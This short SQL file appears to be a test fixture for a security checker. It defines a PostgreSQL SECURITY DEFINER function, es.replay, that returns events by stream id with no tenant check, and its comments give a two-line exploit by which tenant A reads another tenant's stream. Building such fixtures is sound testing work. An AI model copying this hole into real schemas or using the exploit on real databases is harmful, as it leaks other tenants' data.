-- Tenant A replays the events of any stream: the function runs as its owner and asks for the stream alone.
-- about: replay
-- as: ho_eventlog_app
-- exploit: SET es.tenant = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT es.replay('bbbbbbbb-0000-4000-8000-000000000001');
-- shows: secret
CREATE FUNCTION es.replay(stream uuid, from_version integer DEFAULT 1) RETURNS SETOF jsonb LANGUAGE sql STABLE
SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$ SELECT data FROM es.events WHERE stream_id = stream AND version >= from_version ORDER BY version $$;
